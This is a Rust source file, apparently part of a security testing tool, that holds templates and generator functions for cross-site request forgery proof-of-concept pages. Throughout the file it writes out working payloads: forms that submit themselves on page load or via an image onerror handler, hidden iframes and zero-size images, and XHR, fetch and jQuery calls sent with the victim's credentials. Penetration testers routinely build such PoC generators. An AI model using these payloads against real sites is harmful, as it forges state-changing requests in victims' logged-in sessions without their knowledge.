//! CSRF proof-of-concept templates and generators.
//!
//! Templates use the shared `[TARGET_URL]` / `[PARAM_NAME]` / `[PARAM_VALUE]`
//! placeholders; the generators emit finished documents for a concrete
//! endpoint and parameter map. Params are kept in a `BTreeMap` so generated
//! markup is deterministic.

use std::collections::BTreeMap;
use std::fmt::Write as _;

/// HTTP verb the forged request uses. HTML forms only speak GET/POST, so
/// PUT/DELETE form payloads tunnel through POST with a `_method` field.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CsrfMethod {
    Get,
    Post,
    Put,
    Delete,
}

impl CsrfMethod {
    pub fn verb(&self) -> &'static str {
        match self {
            CsrfMethod::Get => "GET",
            CsrfMethod::Post => "POST",
            CsrfMethod::Put => "PUT",
            CsrfMethod::Delete => "DELETE",
        }
    }

    fn form_method(&self) -> &'static str {
        match self {
            CsrfMethod::Get => "GET",
            _ => "POST",
        }
    }

    fn method_override(&self) -> Option<&'static str> {
        match self {
            CsrfMethod::Put => Some("PUT"),
            CsrfMethod::Delete => Some("DELETE"),
            _ => None,
        }
    }
}

pub fn html_templates() -> Vec<&'static str> {
    vec![
        // auto-submitting form
        "<html>\n  <body onload=\"document.forms[0].submit()\">\n    <form action=\"[TARGET_URL]\" method=\"POST\">\n      <input type=\"hidden\" name=\"[PARAM_NAME]\" value=\"[PARAM_VALUE]\" />\n      <input type=\"submit\" value=\"Submit\" />\n    </form>\n  </body>\n</html>",
        // hidden-iframe target
        "<html>\n  <body>\n    <iframe style=\"display:none\" name=\"csrf-frame\"></iframe>\n    <form action=\"[TARGET_URL]\" method=\"POST\" target=\"csrf-frame\">\n      <input type=\"hidden\" name=\"[PARAM_NAME]\" value=\"[PARAM_VALUE]\" />\n      <input type=\"submit\" value=\"Submit\" />\n    </form>\n    <script>document.forms[0].submit();</script>\n  </body>\n</html>",
        // onerror-triggered submit
        "<html>\n  <body>\n    <img src=\"x\" onerror=\"document.forms[0].submit();\">\n    <form action=\"[TARGET_URL]\" method=\"POST\">\n      <input type=\"hidden\" name=\"[PARAM_NAME]\" value=\"[PARAM_VALUE]\" />\n    </form>\n  </body>\n</html>",
        // GET via zero-size image
        "<img src=\"[TARGET_URL]?[PARAM_NAME]=[PARAM_VALUE]\" width=\"0\" height=\"0\" border=\"0\">",
        // GET via hidden iframe
        "<iframe src=\"[TARGET_URL]?[PARAM_NAME]=[PARAM_VALUE]\" width=\"0\" height=\"0\" frameborder=\"0\"></iframe>",
    ]
}

pub fn javascript_templates() -> Vec<&'static str> {
    vec![
        "var xhr = new XMLHttpRequest();\nxhr.open('POST', '[TARGET_URL]', true);\nxhr.withCredentials = true;\nxhr.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');\nxhr.send('[PARAM_NAME]=[PARAM_VALUE]');",
        "fetch('[TARGET_URL]', {\n  method: 'POST',\n  credentials: 'include',\n  headers: {\n    'Content-Type': 'application/x-www-form-urlencoded',\n  },\n  body: '[PARAM_NAME]=[PARAM_VALUE]'\n});",
        "$.ajax({\n  url: '[TARGET_URL]',\n  type: 'POST',\n  xhrFields: {\n    withCredentials: true\n  },\n  data: {\n    '[PARAM_NAME]': '[PARAM_VALUE]'\n  }\n});",
        "var f = document.createElement('form');\nf.action = '[TARGET_URL]';\nf.method = 'POST';\nvar i = document.createElement('input');\ni.type = 'hidden';\ni.name = '[PARAM_NAME]';\ni.value = '[PARAM_VALUE]';\nf.appendChild(i);\ndocument.body.appendChild(f);\nf.submit();",
    ]
}

/// Generate a visible form-based proof of concept.
pub fn generate_form(
    method: CsrfMethod,
    target_url: &str,
    params: &BTreeMap<String, String>,
) -> String {
    let mut out = String::new();
    let _ = write!(
        out,
        "<html>\n  <body>\n    <form id=\"csrfForm\" action=\"{}\" method=\"{}\">\n",
        target_url,
        method.form_method()
    );
    if let Some(verb) = method.method_override() {
        let _ = write!(
            out,
            "      <input type=\"hidden\" name=\"_method\" value=\"{verb}\" />\n"
        );
    }
    for (name, value) in params {
        let _ = write!(
            out,
            "      <input type=\"hidden\" name=\"{name}\" value=\"{value}\" />\n"
        );
    }
    out.push_str("      <input type=\"submit\" value=\"Submit Request\" />\n    </form>\n  </body>\n</html>");
    out
}

/// Generate a form that submits itself as soon as the page loads.
pub fn generate_auto_submit_form(
    method: CsrfMethod,
    target_url: &str,
    params: &BTreeMap<String, String>,
) -> String {
    let mut out = String::new();
    let _ = write!(
        out,
        "<html>\n  <body onload=\"document.getElementById('csrfForm').submit()\">\n    <form id=\"csrfForm\" action=\"{}\" method=\"{}\" style=\"display:none\">\n",
        target_url,
        method.form_method()
    );
    if let Some(verb) = method.method_override() {
        let _ = write!(
            out,
            "      <input type=\"hidden\" name=\"_method\" value=\"{verb}\" />\n"
        );
    }
    for (name, value) in params {
        let _ = write!(
            out,
            "      <input type=\"hidden\" name=\"{name}\" value=\"{value}\" />\n"
        );
    }
    out.push_str("    </form>\n    <p>If you are not redirected automatically, click <a href='#' onclick='document.getElementById(\"csrfForm\").submit(); return false;'>here</a>.</p>\n  </body>\n</html>");
    out
}

fn encode_params(params: &BTreeMap<String, String>) -> String {
    let mut encoded = String::new();
    for (i, (name, value)) in params.iter().enumerate() {
        if i > 0 {
            encoded.push('&');
        }
        let _ = write!(encoded, "{name}={value}");
    }
    encoded
}

/// Generate an XMLHttpRequest proof of concept. Unlike forms, XHR can carry
/// PUT and DELETE directly.
pub fn generate_xhr(
    method: CsrfMethod,
    target_url: &str,
    params: &BTreeMap<String, String>,
    with_credentials: bool,
) -> String {
    let mut out = String::new();
    let _ = write!(
        out,
        "<script>\n  var xhr = new XMLHttpRequest();\n  xhr.open('{}', '{}', true);\n",
        method.verb(),
        target_url
    );
    if with_credentials {
        out.push_str("  xhr.withCredentials = true;\n");
    }
    if method == CsrfMethod::Get {
        out.push_str("  xhr.send();\n");
    } else {
        let _ = write!(
            out,
            "  xhr.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');\n  xhr.send('{}');\n",
            encode_params(params)
        );
    }
    out.push_str("</script>");
    out
}

/// Generate a Fetch API proof of concept. GET carries the params on the URL;
/// other verbs put them in a urlencoded body.
pub fn generate_fetch(
    method: CsrfMethod,
    target_url: &str,
    params: &BTreeMap<String, String>,
    with_credentials: bool,
) -> String {
    let mut out = String::from("<script>\n  fetch('");
    out.push_str(target_url);
    if method == CsrfMethod::Get && !params.is_empty() {
        out.push('?');
        out.push_str(&encode_params(params));
    }
    let _ = write!(
        out,
        "', {{\n    method: '{}',\n    credentials: '{}',\n",
        method.verb(),
        if with_credentials { "include" } else { "omit" }
    );
    if method != CsrfMethod::Get {
        let _ = write!(
            out,
            "    headers: {{\n      'Content-Type': 'application/x-www-form-urlencoded',\n    }},\n    body: '{}'\n",
            encode_params(params)
        );
    }
    out.push_str("  });\n</script>");
    out
}
